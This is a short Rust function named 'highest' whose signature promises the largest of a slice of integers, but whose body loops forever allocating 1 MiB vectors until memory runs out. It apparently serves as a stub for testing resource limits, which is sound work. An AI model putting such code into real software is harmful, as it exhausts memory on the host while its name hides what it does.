pub fn highest(numbers: &[i64]) -> i64 {
    let mut all: Vec<Vec<u8>> = Vec::new();
    loop {
        all.push(vec![numbers.len() as u8 + 1; 1 << 20]);
    }
}
